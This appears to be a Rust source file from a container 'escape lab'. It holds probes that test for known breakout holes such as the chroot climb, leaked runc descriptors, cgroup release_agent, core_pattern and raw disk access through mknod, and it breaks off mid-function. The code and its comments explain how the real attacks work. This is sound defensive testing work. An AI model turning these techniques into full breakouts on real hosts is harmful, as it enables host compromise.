//! `probe attack NAME MARKER`: the escape lab's attacks, each a harmless
//! probe of one hole that real container breakouts went through.
//!
//! Every attack prints exactly one line, `ESCAPED <detail>` when the hole is
//! open or `BLOCKED <errno or why>` when something closed it, and exits 0
//! (2 when it could not even set itself up). None of them uses the hole to
//! hurt the host: the early steps share the host's PID, time and mount
//! namespaces, and the lab runs as root on real machines. Each attack's doc
//! comment says what the real attack did and what the probe does instead.
//!
//! MARKER is the absolute path of a file that exists on the host and not in
//! the container's root: seeing it from inside means reaching the host's
//! filesystem.

use std::ffi::{CStr, CString};
use std::io::Read;
use std::os::unix::ffi::OsStrExt;
use std::path::Path;

use crate::{errno_name, last_errno, open_fds};

/// What an attack found.
pub enum Outcome {
    Escaped(String),
    Blocked(String),
}

use Outcome::{Blocked, Escaped};

/// Every attack: its name and one line on what the real breakout did.
pub const ATTACKS: &[(&str, &str)] = &[
    (
        "chroot",
        "climb out of a chroot with chdir(\"..\") and chroot(\".\")",
    ),
    ("proc-root", "reach the host's / through /proc/1/root"),
    (
        "cwd",
        "start with a working directory on the host (CVE-2024-21626)",
    ),
    (
        "leaked-fd",
        "use a directory fd leaked by the runtime (CVE-2024-21626)",
    ),
    ("mount-proc", "mount a fresh, unmasked proc"),
    ("mount-sysfs", "mount a fresh, writable sysfs"),
    ("remount-root", "remount / (to drop ro/nosuid/nodev)"),
    ("remount-sys", "remount /sys read-write"),
    ("bind-mount", "bind-mount a directory somewhere else"),
    ("mknod-disk", "mknod the host's disk and read it"),
    ("cgroup-limits", "write its own cgroup limits"),
    ("release-agent", "cgroup v1 release_agent (CVE-2022-0492)"),
    ("proc-sys", "write a host-wide sysctl (core_pattern)"),
    ("kernel-module", "load a kernel module"),
    ("settime", "set the host's clock"),
    ("reboot", "reboot the host"),
    ("ptrace", "ptrace a process outside the container"),
    ("raw-socket", "open a raw socket without CAP_NET_RAW"),
    ("setuid", "regain root through a setuid binary"),
    (
        "runtime-exe",
        "overwrite the runtime through /proc/PID/exe (CVE-2019-5736)",
    ),
    (
        "session",
        "share the host's session and process group: kill(0, SIGSTOP) stops the runtime",
    ),
    (
        "host-tty",
        "hold the host's terminal: TIOCSTI types into the user's shell",
    ),
    (
        "pid1-privileges",
        "a PID 1 with more privileges than it uses, for a ptrace-capable command to borrow",
    ),
    (
        "masked-paths",
        "read /proc/keys, /proc/timer_list, /sys/firmware: host-wide kernel state",
    ),
    (
        "environment",
        "read the host's environment (tokens, sockets)",
    ),
    (
        "cgroup-path",
        "see the host's cgroup tree and the runtime's PID in /proc/self/cgroup",
    ),
    (
        "device-node",
        "mount a tmpfs with -o dev, mknod /dev/kmsg (c 1:11), open it",
    ),
    (
        "keyring",
        "reach host root's user keyring (keys are not namespaced)",
    ),
    (
        "userns",
        "create a user namespace: full capabilities over new namespaces",
    ),
    (
        "io-uring",
        "set up io_uring: syscalls that seccomp-style filters do not see",
    ),
    (
        "add-key",
        "add a key to the kernel's key store, which no namespace divides",
    ),
    (
        "userfaultfd",
        "create a userfaultfd, which stalls the kernel mid-copy (an exploit staple)",
    ),
    (
        "perf-event",
        "reach perf_event_open, guarded by a sysctl and not by a namespace",
    ),
    ("bpf", "reach bpf(): the in-kernel verifier and JIT"),
    (
        "kexec-load",
        "reach kexec_load, which replaces the running kernel",
    ),
    (
        "mount-syscall",
        "reach mount() with CAP_SYS_ADMIN dropped: its argument parsing still runs",
    ),
    (
        "other-abi",
        "call through the i386 ABI (int $0x80), where syscall numbers mean other calls",
    ),
    (
        "plant-rootfs",
        "plant a setuid-root binary in the rootfs, for host users and the next container",
    ),
    (
        "host-keys",
        "read host root's key through a host directory the container holds (a volume, a leaked fd)",
    ),
    (
        "host-write",
        "write into host root's directory through a host directory the container holds",
    ),
];

/// The name of the environment variable the lab sets on the runtime; a
/// command that sees it sees the host's environment.
pub const HOST_ENV: &str = "ESCAPE_LAB_HOST_ENV";

/// The file the lab keeps in the host directory it hands the container
/// for host-keys and host-write: owned by host root, mode 0600.
pub const HOST_KEY: &str = "escape-lab-host-key";

/// What host-write creates in that directory; the lab looks for it from
/// the host and removes it.
pub const HOST_WRITTEN: &str = "escape-lab-host-written";

/// What the lab tells the probe about the host, as `KEY=VALUE` arguments
/// after the marker: `host-tty=DEV:RDEV` (st_dev and st_rdev of the terminal the
/// runtime was given), `host-cgroupns=INODE` (the host's cgroup namespace).
pub fn extra<'a>(args: &[&'a str], key: &str) -> Option<&'a str> {
    args.iter()
        .find_map(|a| a.strip_prefix(key)?.strip_prefix('='))
}

/// Runs attack `name`; `None` for an unknown name.
pub fn run(name: &str, marker: &Path, args: &[&str]) -> Option<Result<Outcome, String>> {
    Some(match name {
        "session" => Ok(session()),
        "host-tty" => host_tty(extra(args, "host-tty")),
        "pid1-privileges" => pid1_privileges(),
        "masked-paths" => Ok(masked_paths()),
        "environment" => Ok(match std::env::var(HOST_ENV) {
            Ok(v) => Escaped(format!("{HOST_ENV}={v} set on the host is visible")),
            Err(_) => Blocked(format!(
                "{HOST_ENV} is not in the environment ({} variables)",
                std::env::vars_os().count()
            )),
        }),
        "cgroup-path" => cgroup_path(extra(args, "host-cgroupns")),
        "device-node" => device_node(),
        "keyring" => Ok(keyring()),
        "userns" => userns(),
        "io-uring" => Ok(io_uring()),
        "add-key" => Ok(add_key()),
        "userfaultfd" => Ok(userfaultfd()),
        "perf-event" => reaches("perf_event_open", libc::SYS_perf_event_open, || {
            // SAFETY: a null attr: if the call ran at all it would fail with EFAULT.
            unsafe { libc::syscall(libc::SYS_perf_event_open, 0usize, 0, -1, -1, 0) }
        }),
        "bpf" => reaches("bpf", libc::SYS_bpf, || {
            // SAFETY: BPF_PROG_LOAD with a null attr and size 0: EINVAL at most.
            unsafe { libc::syscall(libc::SYS_bpf, 5, 0usize, 0) }
        }),
        "kexec-load" => reaches("kexec_load", libc::SYS_kexec_load, || {
            // SAFETY: no segments, null pointer: nothing could be loaded.
            unsafe { libc::syscall(libc::SYS_kexec_load, 0usize, 0usize, 0usize, 0usize) }
        }),
        "mount-syscall" => reaches("mount", libc::SYS_mount, || {
            // SAFETY: all null: if the call ran at all it would fail.
            unsafe { libc::syscall(libc::SYS_mount, 0usize, 0usize, 0usize, 0usize, 0usize) }
        }),
        "other-abi" => other_abi(),
        "plant-rootfs" => plant_rootfs(),
        "host-keys" => host_keys(),
        "host-write" => host_write(),
        "chroot" => chroot_escape(marker),
        "proc-root" => Ok(proc_root(marker)),
        "cwd" => Ok(cwd(marker)),
        "leaked-fd" => Ok(leaked_fd(marker)),
        "mount-proc" => mount_new("proc", "proc"),
        "mount-sysfs" => mount_new("sysfs", "sysfs"),
        "remount-root" => Ok(remount_root()),
        "remount-sys" => Ok(remount_sys()),
        "bind-mount" => bind_mount(),
        "mknod-disk" => mknod_disk(),
        "cgroup-limits" => cgroup_limits(),
        "release-agent" => release_agent(),
        "proc-sys" => Ok(proc_sys()),
        "kernel-module" => Ok(kernel_module()),
        "settime" => Ok(settime()),
        "reboot" => Ok(reboot()),
        "ptrace" => Ok(ptrace()),
        "raw-socket" => Ok(match crate::raw_socket() {
            Ok(()) => Escaped("socket(AF_INET, SOCK_RAW, IPPROTO_ICMP) succeeded".into()),
            Err(e) => Blocked(format!("socket(AF_INET, SOCK_RAW): {}", errno_name(e))),
        }),
        "setuid" => setuid(),
        "runtime-exe" => Ok(runtime_exe()),
        _ => return None,
    })
}

// ---------------------------------------------------------------------------
// Small wrappers

fn cstr(s: impl AsRef<[u8]>) -> CString {
    CString::new(s.as_ref()).unwrap_or_default()
}

fn errno_of(rc: libc::c_long) -> Result<libc::c_long, i32> {
    if rc < 0 { Err(last_errno()) } else { Ok(rc) }
}

fn ok_or_errno(rc: libc::c_int) -> Result<(), i32> {
    errno_of(rc.into()).map(drop)
}

/// A directory the container can write to: /tmp, else /.
fn scratch_base() -> &'static str {
    if Path::new("/tmp").is_dir() {
        "/tmp"
    } else {
        ""
    }
}

/// A fresh, empty directory of ours; removed by [`Scratch`]'s drop.
struct Scratch(String);

impl Scratch {
    fn new(what: &str) -> Result<Scratch, String> {
        let dir = format!("{}/.probe-{what}-{}", scratch_base(), std::process::id());
        std::fs::create_dir(&dir).map_err(|e| format!("mkdir {dir}: {e}"))?;
        Ok(Scratch(dir))
    }

    fn c(&self) -> CString {
        cstr(&self.0)
    }
}

impl Drop for Scratch {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir(&self.0);
    }
}

fn mount(
    src: &str,
    target: &CStr,
    fstype: Option<&str>,
    flags: libc::c_ulong,
    data: &str,
) -> Result<(), i32> {
    let src = cstr(src);
    let fstype = fstype.map(cstr);
    let data = cstr(data);
    // SAFETY: every pointer is a NUL-terminated string (or NULL) that
    // outlives the call.
    let rc = unsafe {
        libc::mount(
            src.as_ptr(),
            target.as_ptr(),
            fstype.as_ref().map_or(std::ptr::null(), |f| f.as_ptr()),
            flags,
            data.as_ptr().cast(),
        )
    };
    ok_or_errno(rc)
}

fn umount(target: &CStr) {
    // SAFETY: target is a NUL-terminated string.
    unsafe { libc::umount2(target.as_ptr(), libc::MNT_DETACH) };
}

/// Walks `..` from the directory `fd` far past any sane depth and says
/// whether `marker` is then reachable. `..` stops only at the process's own
/// root: from a directory outside it, the walk climbs to the real root of the
/// mount namespace.
fn marker_above(fd: libc::c_int, marker: &Path) -> bool {
    let dotdot = c"..";
    // SAFETY: fd is an open directory; F_DUPFD_CLOEXEC gives us our own copy.
    let mut cur = unsafe { libc::fcntl(fd, libc::F_DUPFD_CLOEXEC, 0) };
    if cur < 0 {
        return false;
    }
    for _ in 0..256 {
        // SAFETY: cur is an open directory fd and dotdot a NUL-terminated string.
        let up = unsafe {
            libc::openat(
                cur,
                dotdot.as_ptr(),
                libc::O_RDONLY | libc::O_DIRECTORY | libc::O_CLOEXEC,
            )
        };
        // SAFETY: cur is ours and not used after this.
        unsafe { libc::close(cur) };
        if up < 0 {
            return false;
        }
        cur = up;
    }
    let rel = cstr(
        marker
            .as_os_str()
            .as_bytes()
            .strip_prefix(b"/")
            .unwrap_or_default(),
    );
    // SAFETY: an all-zero stat is a valid out-buffer.
    let mut st: libc::stat = unsafe { std::mem::zeroed() };
    // SAFETY: cur is open, rel is NUL-terminated, st is writable.
    let rc = unsafe { libc::fstatat(cur, rel.as_ptr(), &mut st, 0) };
    // SAFETY: cur is ours.
    unsafe { libc::close(cur) };
    rc == 0
}

fn is_dir_fd(fd: libc::c_int) -> bool {
    // SAFETY: an all-zero stat is a valid out-buffer.
    let mut st: libc::stat = unsafe { std::mem::zeroed() };
    // SAFETY: st is writable; a bad fd only gives EBADF.
    unsafe { libc::fstat(fd, &mut st) == 0 && st.st_mode & libc::S_IFMT == libc::S_IFDIR }
}

// ---------------------------------------------------------------------------
// The attacks

/// The classic chroot escape: a process that may call chroot(2) makes a
/// directory, chroots into it *without* chdir'ing into it, so its working
/// directory is now above its root, climbs with `chdir("..")` as far as it
/// likes, and `chroot(".")` at the top is the real root. chroot was never a
/// security boundary. The real attack then runs a shell there; the probe
/// only looks for the host's marker file.
/// Closed by pivot_root in a mount namespace: the host's root is detached,
/// so the top of the climb is the container's own root.
fn chroot_escape(marker: &Path) -> Result<Outcome, String> {
    let jail = Scratch::new("chroot")?;
    // SAFETY: the path is NUL-terminated.
    if let Err(e) = ok_or_errno(unsafe { libc::chroot(jail.c().as_ptr()) }) {
        return Ok(Blocked(format!("chroot: {}", errno_name(e))));
    }
    for _ in 0..256 {
        // SAFETY: a constant NUL-terminated path.
        unsafe { libc::chdir(c"..".as_ptr()) };
    }
    // SAFETY: a constant NUL-terminated path.
    if let Err(e) = ok_or_errno(unsafe { libc::chroot(c".".as_ptr()) }) {
        return Ok(Blocked(format!("chroot(\".\"): {}", errno_name(e))));
    }
    // Scratch's drop removes the jail by its absolute path, which is right
    // again now that we are back at the top.
    Ok(if marker.exists() {
        Escaped(format!(
            "chroot(\".\") after climbing out of a jail: {} is visible",
            marker.display()
        ))
    } else {
        Blocked(
            "the climb ends at the container's own root: no host root in this mount namespace"
                .into(),
        )
    })
}

/// /proc/PID/root is a "magic link" to another process's root directory:
/// following it ignores our own root. A container that sees a host process
/// (PID 1 of the host, when it has no PID namespace) walks into the host's
/// filesystem. Closed by the PID namespace plus pivot_root (PID 1 is the
/// container's init, whose root is the container's), and by the ptrace
/// access check that guards the link (capabilities).
fn proc_root(marker: &Path) -> Outcome {
    let path = format!("/proc/1/root{}", marker.display());
    match std::fs::metadata(&path) {
        Ok(_) => Escaped(format!("{path} exists: /proc/1/root is the host's /")),
        Err(e) => match e.raw_os_error() {
            Some(libc::ENOENT) => {
                Blocked("ENOENT: PID 1's root is the container's, the marker is not there".into())
            }
            Some(n) => Blocked(format!("{path}: {}", errno_name(n))),
            None => Blocked(format!("{path}: {e}")),
        },
    }
}

/// CVE-2024-21626: runc left a descriptor of a host directory open, and an
/// image whose working directory was `/proc/self/fd/7` started with its cwd
/// on the host; `../../..` from there is the host's /. The probe climbs
/// from its cwd (through /proc/self/cwd) and looks for the marker.
/// Closed by pivot_root (the cwd is set inside the new root) and by a
/// runtime that leaks no descriptors.
fn cwd(marker: &Path) -> Outcome {
    // SAFETY: a constant NUL-terminated path.
    let fd = unsafe {
        libc::open(
            c"/proc/self/cwd".as_ptr(),
            libc::O_RDONLY | libc::O_DIRECTORY | libc::O_CLOEXEC,
        )
    };
    if fd < 0 {
        return Blocked(format!("/proc/self/cwd: {}", errno_name(last_errno())));
    }
    let above = marker_above(fd, marker);
    // SAFETY: fd is ours.
    unsafe { libc::close(fd) };
    let here = std::env::current_dir()
        .map(|p| p.display().to_string())
        .unwrap_or_else(|e| format!("({e})"));
    if above {
        Escaped(format!(
            "climbing from the working directory {here} reaches {}",
            marker.display()
        ))
    } else {
        Blocked(format!(
            "the working directory {here} is inside the container"
        ))
    }
}

/// The other half of CVE-2024-21626: any directory descriptor open in the
/// container that points outside its root is a way out (`openat(fd, "..")`).
/// The lab starts every runtime with a host directory open as fd 7, the way
/// runc leaked its cgroup directory. Closed by the runtime closing every
/// descriptor above 2 before exec (close_range, in workshop::exec).
fn leaked_fd(marker: &Path) -> Outcome {
    let fds = match open_fds() {
        Ok(fds) => fds,
        Err(e) => return Blocked(format!("/proc/self/fd: {e}")),
    };
    let dirs: Vec<i32> = fds.into_iter().filter(|&fd| is_dir_fd(fd)).collect();
    for &fd in &dirs {
        if marker_above(fd, marker) {
            let target = std::fs::read_link(format!("/proc/self/fd/{fd}"))
                .map(|t| t.display().to_string())
                .unwrap_or_default();
            return Escaped(format!("fd {fd} ({target}) leads to {}", marker.display()));
        }
    }
    if dirs.is_empty() {
        Blocked("no directory descriptor is open: the runtime closed what it inherited".into())
    } else {
        Blocked(format!(
            "directory fds {dirs:?} all lie inside the container"
        ))
    }
}

/// A fresh proc or sysfs mount is unmasked and writable even where the
/// runtime made /proc/sys or /sys read-only; the real attack then writes
/// /proc/sys/kernel/core_pattern or /sys/kernel/uevent_helper. The probe
/// mounts on a scratch directory and unmounts at once.
/// Closed by capabilities (mount needs CAP_SYS_ADMIN).
fn mount_new(fstype: &str, source: &str) -> Result<Outcome, String> {
    let dir = Scratch::new(&format!("mnt-{fstype}"))?;
    let flags = libc::MS_NOSUID | libc::MS_NODEV | libc::MS_NOEXEC;
    Ok(match mount(source, &dir.c(), Some(fstype), flags, "") {
        Ok(()) => {
            umount(&dir.c());
            Escaped(format!("mounted a new {fstype} (and unmounted it)"))
        }
        Err(e) => Blocked(format!("mount {fstype}: {}", errno_name(e))),
    })
}

/// The MS_* flags a bind remount must repeat to leave a mount as it is.
fn flags_of(path: &CStr) -> Result<libc::c_ulong, i32> {
    // SAFETY: an all-zero statvfs is a valid out-buffer.
    let mut st: libc::statvfs = unsafe { std::mem::zeroed() };
    // SAFETY: path is NUL-terminated, st writable.
    ok_or_errno(unsafe { libc::statvfs(path.as_ptr(), &mut st) })?;
    let f = st.f_flag;
    let mut flags = 0;
    for (st_flag, ms_flag) in [
        (libc::ST_RDONLY, libc::MS_RDONLY),
        (libc::ST_NOSUID, libc::MS_NOSUID),
        (libc::ST_NODEV, libc::MS_NODEV),
        (libc::ST_NOEXEC, libc::MS_NOEXEC),
        (libc::ST_NOATIME, libc::MS_NOATIME),
        (libc::ST_NODIRATIME, libc::MS_NODIRATIME),
        (libc::ST_RELATIME, libc::MS_RELATIME),
    ] {
        if f & st_flag != 0 {
            flags |= ms_flag;
        }
    }
    // Without either, the kernel would default the remount to relatime.
    if flags & (libc::MS_NOATIME | libc::MS_RELATIME) == 0 {
        flags |= libc::MS_STRICTATIME;
    }
    Ok(flags)
}

/// A container that may remount / can drop `ro`, `nosuid` or `nodev` from
/// it. The probe remounts / with exactly the flags it already has, a no-op
/// that proves the permission (on the early steps this is the host's /).
/// Closed by capabilities (CAP_SYS_ADMIN).
fn remount_root() -> Outcome {
    let root = c"/";
    let flags = match flags_of(root) {
        Ok(f) => f,
        Err(e) => return Blocked(format!("statvfs /: {}", errno_name(e))),
    };
    match mount("", root, None, libc::MS_REMOUNT | libc::MS_BIND | flags, "") {
        Ok(()) => Escaped("remounted / (with the flags it had: a no-op)".into()),
        Err(e) => Blocked(format!("remount /: {}", errno_name(e))),
    }
}

/// A writable /sys lets the container write host-wide knobs such as
/// /sys/kernel/uevent_helper (a program the kernel runs as root on the host
/// at the next uevent). The probe makes a read-only /sys writable and puts
/// it back; a /sys that is already writable is the hole itself.
/// Closed by mounting /sys read-only (pivot_root's step) plus capabilities
/// (without CAP_SYS_ADMIN it cannot be remounted).
fn remount_sys() -> Outcome {
    let sys = c"/sys";
    let flags = match flags_of(sys) {
        Ok(f) => f,
        Err(e) => return Blocked(format!("statvfs /sys: {}", errno_name(e))),
    };
    if flags & libc::MS_RDONLY == 0 {
        return Escaped("/sys is mounted read-write already".into());
    }
    match mount(
        "",
        sys,
        None,
        libc::MS_REMOUNT | libc::MS_BIND | (flags & !libc::MS_RDONLY),
        "",
    ) {
        Ok(()) => {
            let _ = mount("", sys, None, libc::MS_REMOUNT | libc::MS_BIND | flags, "");
            Escaped("remounted /sys read-write (and back)".into())
        }
        Err(e) => Blocked(format!("remount /sys rw: {}", errno_name(e))),
    }
}

/// A bind mount can put any directory the container sees anywhere it
/// likes, over masked paths for instance. The probe binds / onto a scratch
/// directory and unmounts it. Closed by capabilities (CAP_SYS_ADMIN).
fn bind_mount() -> Result<Outcome, String> {
    let dir = Scratch::new("bind")?;
    Ok(match mount("/", &dir.c(), None, libc::MS_BIND, "") {
        Ok(()) => {
            umount(&dir.c());
            Escaped("bind-mounted / onto a scratch directory (and unmounted it)".into())
        }
        Err(e) => Blocked(format!("mount MS_BIND: {}", errno_name(e))),
    })
}

/// The host's first disk as (major, minor, name), from /proc/partitions
/// (global even inside a container) or else /sys/dev/block.
fn host_disk() -> Option<(u32, u32, String)> {
    let text = std::fs::read_to_string("/proc/partitions").unwrap_or_default();
    let from_partitions = text.lines().skip(2).find_map(|l| {
        let f: Vec<&str> = l.split_whitespace().collect();
        let name = *f.get(3)?;
        if ["loop", "ram", "zram", "sr", "nbd"]
            .iter()
            .any(|p| name.starts_with(p))
        {
            return None;
        }
        Some((f[0].parse().ok()?, f[1].parse().ok()?, name.to_owned()))
    });
    from_partitions.or_else(|| {
        std::fs::read_dir("/sys/dev/block")
            .ok()?
            .filter_map(Result::ok)
            .find_map(|e| {
                let name = e.file_name().to_string_lossy().into_owned();
                let (maj, min) = name.split_once(':')?;
                let maj: u32 = maj.parse().ok()?;
                // 7 is loop, 1 is ram.
                (maj != 7 && maj != 1).then(|| Some((maj, min.parse().ok()?, name.clone())))?
            })
    })
}

/// With CAP_MKNOD a container can make a device node for the host's disk and
/// read (or write) the raw blocks of every file on it. The probe makes the
/// node in /tmp (then /dev), reads the first 512 bytes, and deletes it.
/// Closed by capabilities (dropping CAP_MKNOD), by nodev mounts, or, as
/// Docker does while keeping CAP_MKNOD, by the cgroup device controller.
fn mknod_disk() -> Result<Outcome, String> {
    let Some((major, minor, name)) = host_disk() else {
        return Err("no disk in /proc/partitions or /sys/dev/block".into());
    };
    let mut why = Vec::new();
    for dir in ["/tmp", "/dev"] {
        if !Path::new(dir).is_dir() {
            continue;
        }
        let node = cstr(format!("{dir}/.probe-disk-{}", std::process::id()));
        // SAFETY: node is NUL-terminated.
        let made = ok_or_errno(unsafe {
            libc::mknod(
                node.as_ptr(),
                libc::S_IFBLK | 0o600,
                libc::makedev(major, minor),
            )
        });
        if let Err(e) = made {
            why.push(format!("mknod in {dir}: {}", errno_name(e)));
            continue;
        }
        // SAFETY: node is NUL-terminated.
        let fd = unsafe { libc::open(node.as_ptr(), libc::O_RDONLY | libc::O_CLOEXEC) };
        let result = if fd < 0 {
            Err(last_errno())
        } else {
            let mut buf = [0u8; 512];
            // SAFETY: buf is writable for its length; fd is open.
            let n = unsafe { libc::read(fd, buf.as_mut_ptr().cast(), buf.len()) };
            let err = last_errno();
            // SAFETY: fd is ours.
            unsafe { libc::close(fd) };
            if n < 0 { Err(err) } else { Ok(n) }
        };
        // SAFETY: node is NUL-terminated.
        unsafe { libc::unlink(node.as_ptr()) };
        match result {
            Ok(n) => {
                return Ok(Escaped(format!(
                    "read {n} bytes of the host's disk {name} ({major}:{minor}) through a node made in {dir}"
                )));
            }
            Err(e) => why.push(format!(
                "mknod in {dir} worked, open/read: {}",
                errno_name(e)
            )),
        }
    }
    Ok(Blocked(why.join("; ")))
}

/// One line of /proc/self/cgroup: hierarchy id, controllers, path.
struct CgroupLine {
    controllers: String,
    path: String,
}

fn own_cgroups() -> Vec<CgroupLine> {
    std::fs::read_to_string("/proc/self/cgroup")
        .unwrap_or_default()
        .lines()
        .filter_map(|l| {
            let mut f = l.splitn(3, ':');
            let _id = f.next()?;
            Some(CgroupLine {
                controllers: f.next()?.to_owned(),
                path: f.next()?.to_owned(),
            })
        })
        .collect()
}

/// Where a cgroup hierarchy is mounted in our mount namespace: (mount
/// point, the hierarchy path at that mount point).
fn mounted_hierarchy(controller: &str) -> Option<(String, String)> {
    let text = std::fs::read_to_string("/proc/self/mountinfo").ok()?;
    text.lines().find_map(|line| {
        let (left, right) = line.split_once(" - ")?;
        let left: Vec<&str> = left.split(' ').collect();
        let right: Vec<&str> = right.split(' ').collect();
        let fstype = *right.first()?;
        let opts = right.get(2).copied().unwrap_or("");
        let matches = if controller.is_empty() {
            fstype == "cgroup2"
        } else {
            fstype == "cgroup" && opts.split(',').any(|o| o == controller)
        };
        matches.then(|| (crate::unescape(left[4]), crate::unescape(left[3])))
    })
}

/// The real attack raises its own memory or pids limit (or moves itself
/// to the root cgroup) and then is limited by nothing. The probe finds its
/// own cgroup's pids.max or memory limit, mounting the hierarchy on a
/// scratch directory if it is not mounted, and writes back the value it
/// already has. Closed by not mounting the cgroup filesystem in the
/// container plus capabilities (it cannot mount it itself).
fn cgroup_limits() -> Result<Outcome, String> {
    let lines = own_cgroups();
    let mut why = Vec::new();
    // (controller as named in /proc/self/cgroup, mount option, limit file)
    let wanted = [
        ("pids", "pids", "pids.max"),
        ("memory", "memory", "memory.limit_in_bytes"),
        ("", "", "pids.max"),
        ("", "", "memory.max"),
    ];
    for (ctrl, opt, file) in wanted {
        let Some(line) = lines.iter().find(|l| {
            if ctrl.is_empty() {
                l.controllers.is_empty()
            } else {
                l.controllers.split(',').any(|c| c == ctrl)
            }
        }) else {
            continue;
        };
        let base = match mounted_hierarchy(opt) {
            Some((point, root)) => {
                let rel = line
                    .path
                    .strip_prefix(root.trim_end_matches('/'))
                    .unwrap_or(&line.path);
                format!("{point}{rel}")
            }
            None => {
                let dir = Scratch::new("cgroup")?;
                let (fstype, data) = if opt.is_empty() {
                    ("cgroup2", "")
                } else {
                    ("cgroup", opt)
                };
                if let Err(e) = mount(
                    "cgroup",
                    &dir.c(),
                    Some(fstype),
                    libc::MS_NOSUID | libc::MS_NODEV | libc::MS_NOEXEC,
                    data,
                ) {
                    why.push(format!(
                        "{} is not mounted and mount {fstype} -o {data}: {}",
                        if opt.is_empty() { "cgroup2" } else { opt },
                        errno_name(e)
                    ));
                    continue;
                }
                let out = write_back(&format!("{}{}/{file}", dir.0, line.path));
                umount(&dir.c());
                match out {
                    Ok(Some(o)) => return Ok(o),
                    Ok(None) => continue,
                    Err(w) => {
                        why.push(w);
                        continue;
                    }
                }
            }
        };
        match write_back(&format!("{base}/{file}")) {
            Ok(Some(o)) => return Ok(o),
            Ok(None) => {}
            Err(w) => why.push(w),
        }
    }
    if why.is_empty() {
        why.push("our cgroups have no limit file we could find".into());
    }
    Ok(Blocked(why.join("; ")))
}

/// Writes a cgroup file's own value back: `Ok(None)` when there is no such
/// file (a root cgroup has no limits).
fn write_back(path: &str) -> Result<Option<Outcome>, String> {
    let value = match std::fs::read_to_string(path) {
        Ok(v) => v,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(None),
        Err(e) => return Err(format!("read {path}: {e}")),
    };
    match std::fs::OpenOptions::new()
        .write(true)
        .open(path)
        .and_then(|mut f| std::io::Write::write_all(&mut f, value.trim().as_bytes()))
    {
        Ok(()) => Ok(Some(Escaped(format!(
            "wrote our own limit {path} (its value {:?}, unchanged)",
            value.trim()
        )))),
        Err(e) => Err(format!(
            "write {path}: {}",
            e.raw_os_error().map_or_else(|| e.to_string(), errno_name)
        )),
    }
}

/// CVE-2022-0492 and the older release_agent breakout: in a cgroup v1
/// hierarchy, `release_agent` names a program the kernel runs *as root on
/// the host* when a cgroup with notify_on_release empties. The container
/// mounts a v1 hierarchy, points release_agent at a script in its own
/// rootfs (found on the host through /proc/self/mountinfo or the overlay's
/// upperdir), and empties a cgroup. The probe mounts a new, empty named
/// hierarchy of its own, writes a path that does not exist to its
/// release_agent, and unmounts it (an empty named hierarchy then vanishes).
/// Closed by capabilities (mount, and since 5.17 release_agent itself,
/// need CAP_SYS_ADMIN).
fn release_agent() -> Result<Outcome, String> {
    let dir = Scratch::new("release")?;
    let name = format!("none,name=probe{}", std::process::id());
    if let Err(e) = mount(
        "cgroup",
        &dir.c(),
        Some("cgroup"),
        libc::MS_NOSUID | libc::MS_NODEV | libc::MS_NOEXEC,
        &name,
    ) {
        return Ok(Blocked(format!(
            "mount cgroup -o {name}: {}",
            errno_name(e)
        )));
    }
    let agent = format!("{}/release_agent", dir.0);
    let wrote = std::fs::OpenOptions::new()
        .write(true)
        .open(&agent)
        .and_then(|mut f| std::io::Write::write_all(&mut f, b"/nonexistent/probe-release-agent"));
    umount(&dir.c());
    Ok(match wrote {
        Ok(()) => Escaped(format!(
            "mounted a cgroup v1 hierarchy ({name}) and set its release_agent"
        )),
        Err(e) => Blocked(format!(
            "write release_agent: {}",
            e.raw_os_error().map_or_else(|| e.to_string(), errno_name)
        )),
    })
}

/// /proc/sys/kernel/core_pattern is host-wide: `|/path/in/container` makes
/// the kernel run that program as root on the host at the next crash
/// anywhere. Root in a container without a user namespace passes the file's
/// permission check: only a read-only /proc/sys (Docker's "readonly paths")
/// stops it. The probe opens the file for writing and closes it unwritten.
fn proc_sys() -> Outcome {
    let path = c"/proc/sys/kernel/core_pattern";
    // SAFETY: a constant NUL-terminated path.
    let fd = unsafe { libc::open(path.as_ptr(), libc::O_WRONLY | libc::O_CLOEXEC) };
    if fd < 0 {
        return Blocked(format!(
            "open /proc/sys/kernel/core_pattern for writing: {}",
            errno_name(last_errno())
        ));
    }
    // SAFETY: fd is ours; nothing was written.
    unsafe { libc::close(fd) };
    Escaped("/proc/sys/kernel/core_pattern is open for writing (closed unwritten)".into())
}

/// A kernel module runs in the kernel: game over. The probe passes
/// init_module an image that is not a module: EPERM means the capability
/// check refused it; ENOEXEC or EINVAL means the kernel went on to parse it,
/// so a real module would have loaded. Closed by capabilities
/// (CAP_SYS_MODULE).
fn kernel_module() -> Outcome {
    let image = b"\x7fELF, but not a kernel module: the escape lab's probe\0";
    // SAFETY: the image buffer and the empty options string outlive the call;
    // the kernel only reads them.
    let rc = unsafe {
        libc::syscall(
            libc::SYS_init_module,
            image.as_ptr(),
            image.len(),
            c"".as_ptr(),
        )
    };
    match errno_of(rc) {
        Ok(_) => Escaped("init_module accepted the image".into()),
        Err(libc::EPERM) => Blocked("init_module: EPERM".into()),
        Err(libc::ENOSYS) => Blocked(
            "init_module: ENOSYS: this kernel has no module support (no container layer involved)"
                .into(),
        ),
        Err(e) => Escaped(format!(
            "init_module: {}: the kernel parsed the image, a real module would have loaded",
            errno_name(e)
        )),
    }
}

/// The clock is not namespaced (time namespaces cover only the monotonic
/// and boot clocks): setting it moves the host's time, breaks TLS,
/// Kerberos and logs. The probe sets it to the time it just read.
/// Closed by capabilities (CAP_SYS_TIME).
fn settime() -> Outcome {
    // SAFETY: an all-zero timespec is valid.
    let mut now: libc::timespec = unsafe { std::mem::zeroed() };
    // SAFETY: now is writable.
    unsafe { libc::clock_gettime(libc::CLOCK_REALTIME, &mut now) };
    // SAFETY: now was just filled in.
    match ok_or_errno(unsafe { libc::clock_settime(libc::CLOCK_REALTIME, &now) }) {
        Ok(()) => {
            Escaped("clock_settime(CLOCK_REALTIME, now) succeeded: the host's clock is ours".into())
        }
        Err(e) => Blocked(format!("clock_settime: {}", errno_name(e))),
    }
}

/// reboot(RESTART) from a container without a PID namespace reboots the
/// host. The probe asks for LINUX_REBOOT_CMD_CAD_OFF (Ctrl-Alt-Del sends
/// SIGINT to init, what systemd sets anyway), which passes the same checks
/// and restarts nothing. Closed by the PID namespace (there reboot() only
/// acts on the container: RESTART kills its init, anything else is EINVAL)
/// and by capabilities (CAP_SYS_BOOT).
fn reboot() -> Outcome {
    // SAFETY: CAD_OFF only changes what Ctrl-Alt-Del does.
    match ok_or_errno(unsafe { libc::reboot(libc::LINUX_REBOOT_CMD_CAD_OFF) }) {
